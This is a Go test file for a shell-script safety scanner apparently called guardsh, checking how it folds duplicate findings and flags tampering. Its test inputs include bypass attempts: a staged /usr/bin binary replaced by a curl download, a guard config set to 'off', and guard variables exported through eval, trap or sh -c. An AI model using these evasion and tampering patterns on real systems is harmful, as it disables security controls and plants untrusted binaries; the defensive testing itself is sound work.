package rules

import (
	"strings"
	"testing"

	"github.com/guardsh/guardsh/parse"
)

// TestDupes7 runs real-shaped scripts of the held-out set's duplicates
// (nomad, vscode-dev-containers' sshd, rclone, mvdan/sh) and the bypass
// attempts written before the fix: two facts that look like one stay two
// findings. want is the rules left after folding, in order; note is a
// text the survivor's reason must hold.
func TestDupes7(t *testing.T) {
	rclone := "#!/bin/sh\ncase $OS in\n  'linux')\n    cp rclone /usr/bin/rclone.new\n    chmod 755 /usr/bin/rclone.new\n    chown root:root /usr/bin/rclone.new\n    mv /usr/bin/rclone.new /usr/bin/rclone\n    ;;\n" +
		"  'freebsd'|'openbsd'|'netbsd')\n    cp rclone /usr/bin/rclone.new\n    chown root:wheel /usr/bin/rclone.new\n    mv /usr/bin/rclone.new /usr/bin/rclone\n    ;;\nesac\n"
	for _, tc := range []struct {
		name, src, want, note string
	}{
		// The held-out shapes.
		{"nomad: chown -R root of a system tree", "#!/bin/sh\nsudo mv /tmp/go /usr/local\nsudo chown -R root:root /usr/local/go\n", "chown-root", "chmod-recursive-system (the same chown of the tree to root)"},
		{"rclone: staging copies and the BSD branch", rclone, "system-config-write", "system-config-write at line 12 (the other branch"},
		{"rclone: the staging copy of the BSD branch moves with its mv", rclone, "system-config-write", "at line 10 (the other branch"},
		{"rclone: the staging copy", rclone, "system-config-write", "system-config-write at line 4 (the staging copy of the same file, moved onto its name)"},
		{"mvdan: sed -i or tee of one file", "#!/bin/bash\nconfig='/etc/docker/daemon.json'\nif [[ -e \"$config\" ]]; then\n  sudo sed -i -e 's/{/{ \"experimental\": true, /' \"$config\"\nelse\n  echo '{ \"experimental\": true }' | sudo tee \"$config\"\nfi\n", "system-config-write", "at line 6 (the other branch"},
		{"sshd: code written into a login script", "#!/bin/sh\nS=\"$(cat << 'EOF'\nwhile IFS= read -r l; do\n  n=\"${l%%=*}\"\n  export ${n}=\"${l#*=}\"\ndone < /usr/local/etc/base-env\nEOF\n)\"\nif [ \"$FIX\" = true ]; then\n  echo \"${S}\" > /etc/profile.d/00-fix-login-env.sh\nfi\n", "system-config-write", "guardsh-tamper (code the same command writes"},

		// Bypass attempts: two facts.
		{"chown-root of another path beside a chmod", "#!/bin/sh\nchown -R root ./project\nchmod -R 700 /etc/ssl\n", "chown-root chmod-recursive-system", ""},
		{"chown -R root and chown -R bob", "#!/bin/sh\nchown -R root:root /opt/a\nchown -R bob /opt/b\n", "chown-root chmod-recursive-system", ""},
		{"branches writing different targets", "#!/bin/sh\nif a; then cp x /usr/bin/t; else cp x /usr/sbin/t; fi\n", "system-config-write system-config-write", ""},
		{"macOS branch into another bin dir", "#!/bin/sh\ncase $OS in\nlinux) mv r /usr/bin/rclone ;;\nosx) mv r /usr/sbin/rclone ;;\nesac\n", "system-config-write system-config-write", ""},
		{"a variable changed in one branch", "#!/bin/sh\nf=/etc/a.conf\nif a; then echo x > \"$f\"; else f=/etc/b.conf; echo x > \"$f\"; fi\n", "system-config-write system-config-write", ""},
		{"a cd in one branch", "#!/bin/sh\ncd /etc\nif a; then sed -i s/a/b/ hosts; else cd /etc/x && sed -i s/a/b/ hosts; fi\n", "system-config-write system-config-write", ""},
		{"a function call before it", "#!/bin/sh\ng() { f=/etc/b; }\nf=/etc/a\nif a; then echo x > \"$f\"; else g; echo x > \"$f\"; fi\n", "system-config-write system-config-write", ""},
		{"two ifs both run", "#!/bin/sh\nif a; then sed -i s/a/b/ /etc/hosts; fi\nif b; then echo x | tee /etc/hosts; fi\n", "system-config-write system-config-write", ""},
		{"a glob target", "#!/bin/sh\nif a; then echo x > /etc/*.conf; else echo y > /etc/*.conf; fi\n", "system-config-write system-config-write", ""},
		{"a start-up file: the text is code", "#!/bin/sh\nif a; then echo \"$x\" >> ~/.bashrc; else sed -i 's/a/b/' ~/.bashrc; fi\n", "credential-file-write credential-file-write", ""},
		{"staged file run before the mv", "#!/bin/sh\ncp rclone /usr/bin/rclone.new\n/usr/bin/rclone.new version\nmv /usr/bin/rclone.new /usr/bin/rclone\n", "system-config-write system-config-write", ""},
		{"staged file replaced by a download", "#!/bin/sh\ncp rclone /usr/bin/rclone.new\ncurl -o /usr/bin/rclone.new https://x.example/r\nmv /usr/bin/rclone.new /usr/bin/rclone\n", "", ""},
		{"the mv in another branch than the cp", "#!/bin/sh\nif a; then cp r /usr/bin/r.new; else mv /usr/bin/r.new /usr/bin/r; fi\n", "system-config-write system-config-write", ""},
		{"the mv moves another file", "#!/bin/sh\ncp r /usr/bin/r.new\nmv /usr/bin/r.old /usr/bin/r\n", "system-config-write system-config-write", ""},
		{"the mv with -t", "#!/bin/sh\ncp r /usr/bin/r.new\nmv -t /usr/sbin /usr/bin/r.new\n", "system-config-write system-config-write", ""},
		{"a subshell between", "#!/bin/sh\ncp r /usr/bin/r.new\n(cp evil /usr/bin/r.new)\nmv /usr/bin/r.new /usr/bin/r\n", "system-config-write system-config-write system-config-write", ""},
		{"exporting code run, not written", "#!/bin/sh\necho x > /etc/profile.d/x.sh\nn=$(cat /etc/name); export \"$n\"=1\n", "system-config-write guardsh-tamper", ""},
		{"guardsh's own file written", "#!/bin/sh\necho 'mode = \"off\"' > /etc/guardsh/config.toml\n", "", ""},
	} {
		res := parse.Commands(tc.src, parse.Options{File: true})
		fs := FoldDupes(Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true}), res.Input)
		got := strings.Join(rulesOf(fs), " ")
		if tc.want != "" && got != tc.want {
			t.Errorf("%s: %s, want %s", tc.name, got, tc.want)
		}
		if tc.want == "" {
			// Only that nothing is folded away that names the staging.
			for _, f := range fs {
				if strings.Contains(f.Reason, "staging copy") {
					t.Errorf("%s: folded as a staging copy: %s", tc.name, f.Reason)
				}
			}
		}
		if tc.note != "" {
			found := false
			for _, f := range fs {
				found = found || strings.Contains(f.Reason, tc.note)
			}
			if !found {
				t.Errorf("%s: no reason holds %q: %v", tc.name, tc.note, fs)
			}
		}
	}
}

// TestResolvedExports: the file_env helper of docker-library's
// entrypoints exports the names its calls give it; guardsh-tamper stays
// for a name that is guardsh's, and for every way the name could come
// from elsewhere (the bypass attempts written before the fix).
func TestResolvedExports(t *testing.T) {
	helper := "file_env() {\n  local var=\"$1\"\n  local fileVar=\"${var}_FILE\"\n  local val=\"${2:-}\"\n  if [ \"${!fileVar:-}\" ]; then\n    val=\"$(< \"${!fileVar}\")\"\n  fi\n  export \"$var\"=\"$val\"\n  unset \"$fileVar\"\n}\n"
	for _, tc := range []struct {
		name, src string
		tamper    bool
	}{
		{"ghost shape", helper + "file_env 'database__connection__host'\nfile_env 'mail__auth__pass'\nexec \"$@\"\n", false},
		{"$1 itself", "f() { export \"$1\"=\"$2\"; }\nf A 1\nf B 2\n", false},
		{"a call gives GUARDSH_YOLO", helper + "file_env A\nfile_env GUARDSH_YOLO\n", true},
		{"a call gives HOME", helper + "file_env HOME\n", true},
		{"a call gives the hooks' variable", helper + "file_env __guardsh_paused\n", true},
		{"a call with a variable", helper + "file_env A\nfile_env \"$name\"\n", true},
		{"a call without arguments", helper + "file_env\n", true},
		{"a call that is not a name", helper + "file_env 'A B'\n", true},
		{"called through a variable", helper + "file_env A\ncmd=file_env\n$cmd GUARDSH_YOLO\n", true},
		{"called from eval", helper + "file_env A\neval \"file_env $x\"\n", true},
		{"called from a trap", helper + "file_env A\ntrap 'file_env GUARDSH_YOLO' EXIT\n", true},
		{"called from sh -c", helper + "file_env A\nsh -c 'file_env GUARDSH_YOLO'\n", true},
		{"a file sourced", helper + ". ./lib.sh\nfile_env A\n", true},
		{"exported to children", helper + "export -f file_env\nfile_env A\n", true},
		{"defined twice", helper + helper + "file_env A\n", true},
		{"the variable reassigned", "f() { local v=\"$1\"; v=GUARDSH_YOLO; export \"$v\"=1; }\nf A\n", true},
		{"shifted", "f() { shift; export \"$1\"=1; }\nf A GUARDSH_YOLO\n", true},
		{"read into it", "f() { local v=\"$1\"; read -r v; export \"$v\"=1; }\nf A\n", true},
		{"from the environment", "export \"$v\"=1\n", true},
		{"from a file", "n=$(cat /etc/name)\nexport \"$n\"=1\n", true},
		{"a known GUARDSH name", "n=GUARDSH_YOLO; export \"$n\"=1\n", true},
		{"two functions, the other unresolved", "f() { export \"$1\"=1; }\ng() { export \"$1\"=1; }\nf A\ng \"$x\"\n", true},
	} {
		res := parse.Commands("#!/bin/bash\n"+tc.src, parse.Options{File: true})
		got := false
		for _, f := range Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true}) {
			got = got || f.Rule == "guardsh-tamper"
		}
		if got != tc.tamper {
			t.Errorf("%s: guardsh-tamper %v, want %v", tc.name, got, tc.tamper)
		}
	}
	// At a prompt nothing is resolved: a line's function may be called
	// by the next line.
	if !contains(ids("f() { export \"$1\"=1; }; f A"), "guardsh-tamper") {
		t.Errorf("at a prompt: a dynamic export is guardsh-tamper")
	}
}
